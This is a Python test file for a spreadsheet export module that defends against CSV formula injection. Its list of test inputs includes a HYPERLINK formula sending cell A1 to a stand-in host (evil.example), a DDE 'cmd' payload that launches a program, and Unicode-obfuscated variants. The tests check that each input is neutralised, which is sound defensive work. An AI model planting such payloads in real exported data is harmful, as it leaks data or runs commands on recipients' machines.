"""Nothing that somebody typed is a formula in somebody else's spreadsheet."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cards.spreadsheet import cell, csv_of

FORMULAS = (
    *('=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "|calc", "%x"),
    *("=cmd|' /C calc'!A0", "\uff1d1+1", "\u202e=1", "\ufeff=1", "  =1", "\u00a0=1", "\u200b@x", "\u22121"),
)


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_begins_like_a_formula_is_a_text(typed: str) -> None:
    """The apostrophe says so to every spreadsheet; not a character is lost."""
    assert cell(typed) == f"'{typed}"


@pytest.mark.parametrize("plain", ["Bea Exemplar", "", " ", "8C", "2026-11-24", "It was 3 = 3", "'quoted'", "a\nb"])
def test_what_is_plain_stays_as_it_is(plain: str) -> None:
    """Names and dates do not get an apostrophe."""
    assert cell(plain) == plain


def test_numbers_stay_numbers() -> None:
    """A figure below nought is no formula; nothing is an empty cell."""
    assert [cell(-3), cell(0.5), cell(None)] == ["-3", "0.5", ""]


@given(st.lists(st.lists(st.text(st.characters(blacklist_categories=["Cs"]), max_size=20), min_size=2, max_size=2), max_size=5))
def test_a_table_is_read_back_cell_by_cell(rows: list[list[str]]) -> None:
    """Whatever is in a cell stays in that cell, and no cell begins a formula."""
    read = list(csv.reader(StringIO(csv_of(["a", "=b"], rows), newline="")))
    assert read == [["a", "'=b"], *([cell(value) for value in row] for row in rows)]
    assert not [value for row in read for value in row if value[:1] in tuple("=+-@\t\r\n")]


def test_a_megabyte_is_cut_to_what_a_cell_holds() -> None:
    """Excel would otherwise pour the rest into the next rows."""
    assert len(cell("=" * 1_000_000)) == 32_767
